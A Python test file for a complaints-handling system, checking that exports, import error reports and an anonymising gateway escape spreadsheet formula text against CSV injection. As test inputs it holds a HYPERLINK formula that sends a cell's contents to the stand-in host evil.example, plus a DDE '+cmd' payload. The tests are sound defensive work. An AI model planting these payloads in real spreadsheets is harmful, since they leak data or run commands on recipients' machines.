"""Text that looks like a formula stays text in every file we write (OWASP CSV injection)."""

from __future__ import annotations

import csv

from openpyxl import Workbook, load_workbook

from xiaobao.domain.roles import Role
from xiaobao.engines.spreadsheet import csv_row, csv_value, is_formula_like
from xiaobao.services.actors import Actor
from xiaobao.services.blackgray import export, leads
from xiaobao.services.complaints.intake import storing
from xiaobao.services.complaints.intake.importing import import_file
from xiaobao.services.privacy.gateway_files import anonymise_file

from tests.conftest import record

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此核实")'


def test_formula_starts_are_recognised_and_numbers_are_not():
    for v in (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "＝1+1"):
        assert is_formula_like(v) and csv_value(v) == "'" + v
    for v in ("-12.5", "+86", "1e3", "普通文本", "a=b", "", None, 5):
        assert not is_formula_like(v) and csv_value(v) == v
    assert csv_row([HYPERLINK, 3]) == ["'" + HYPERLINK, 3]


def _no_formula_cells(path) -> list[str]:
    wb = load_workbook(path)  # not read-only: data_type is exact here
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_the_lead_evidence_workbook_keeps_formula_text_as_text(ctx, users, tmp_path):
    text = (HYPERLINK + " 本人于2024年在贵司借款，因疫情失业无力偿还。现要求停息挂账、减免全部利息罚息、本金分36期偿还，"
            "否则将向银保监会投诉并起诉。委托代理人张律师，联系电话 139-1234-5678。")
    for i in range(6):
        storing.submit(ctx, record(300 + i, external_id=f"INJ-{i}", customer_phone=f"1380013{i:04d}",
                                   customer_id_number="", text=text, category="other",
                                   respondent_branch=HYPERLINK), actor="t")
    leads.refresh_leads(ctx)
    lead = leads.list_leads(ctx)["items"][0]
    out = export.export_lead(ctx, lead["id"], Actor("compliance", Role.COMPLIANCE), tmp_path / "pkg")
    assert _no_formula_cells(out["xlsx"]) == []
    cells = [c.value for ws in load_workbook(out["xlsx"]).worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in cells)  # kept, exactly, as text


def test_the_errors_file_of_an_import_escapes_what_it_echoes(ctx, users, tmp_path):
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(record(1)))
        w.writeheader()
        w.writerow(record(1, external_id=HYPERLINK, channel="=1+1"))
        w.writerow(record(2))
    report = import_file(ctx, src, actor="t", errors_path=tmp_path / "errors.csv")
    assert report.inserted == 1
    rows = list(csv.reader((tmp_path / "errors.csv").open(encoding="utf-8-sig")))
    assert rows[1][1] == "'" + HYPERLINK and not any(cell.startswith("=") for row in rows for cell in row)


def test_the_anonymising_gateway_writes_formula_text_as_text(ctx, tmp_path):
    src = tmp_path / "in.xlsx"
    wb = Workbook()
    wb.active.append(["note", "phone"])
    wb.active.append(["x", "13912345678"])
    wb.active["A2"].value = HYPERLINK  # a formula cell in the partner's file
    wb.save(src)
    anonymise_file(ctx.vault, src, tmp_path / "out.xlsx", "export")
    assert _no_formula_cells(tmp_path / "out.xlsx") == []
    csv_src = tmp_path / "in.csv"
    csv_src.write_text(f'note,phone\n"{HYPERLINK.replace(chr(34), chr(34) * 2)}",13912345678\n', encoding="utf-8")
    anonymise_file(ctx.vault, csv_src, tmp_path / "out.csv", "export")
    out = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert out[1][0].startswith("'=")
